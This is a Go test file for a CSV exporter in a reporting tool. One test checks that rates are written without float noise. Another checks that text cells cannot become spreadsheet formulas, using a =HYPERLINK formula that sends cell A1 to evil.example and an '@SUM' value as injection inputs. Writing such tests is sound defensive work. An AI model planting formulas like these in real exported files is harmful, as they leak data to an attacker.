package export_test

import (
	"bytes"
	"strings"
	"testing"

	"hailong/aggregator/export"
	"hailong/aggregator/report"
)

// A rate of 29 of 100 is written 29, not 28.999999999999996.
func TestCSVRatesWithoutFloatNoise(t *testing.T) {
	rate := 29.0 / 100
	tb := report.Table{Name: "t", Title: "T", Columns: []report.Column{{Title: "Đơn vị"}, {Title: "Tỷ lệ", Kind: report.KindRate}},
		Rows: []report.Row{{Cells: []report.Cell{{Text: "A"}, {Value: &rate}}}}}
	var b bytes.Buffer
	if err := export.CSV(&b, report.Meta{Title: "x", Lang: "vi"}, tb); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "A,29\n") && !strings.Contains(b.String(), "A,29.0") {
		t.Errorf("the rate 29/100 is not written as 29: %q", b.String()[strings.Index(b.String(), "A,"):])
	}
}

// Every text cell (unit, procedure and field names from imports) and the
// description are made inert, not only comments.
func TestCSVTextIsNeverAFormula(t *testing.T) {
	tb := report.Table{Name: "t", Title: "T", Columns: []report.Column{{Title: "Thủ tục"}},
		Rows: []report.Row{{Cells: []report.Cell{{Text: `=HYPERLINK("http://evil.example/?"&A1,"Đăng ký khai sinh")`}}}}}
	var b bytes.Buffer
	if err := export.CSV(&b, report.Meta{Title: "x", UnitName: "@SUM(1+1)", Lang: "vi"}, tb); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(b.String(), "\n") {
		for _, f := range strings.Split(line, ",") {
			f = strings.TrimPrefix(f, `"`)
			if f != "" && strings.ContainsRune("=+@", rune(f[0])) {
				t.Errorf("a cell a spreadsheet takes for a formula: %q", line)
			}
		}
	}
}
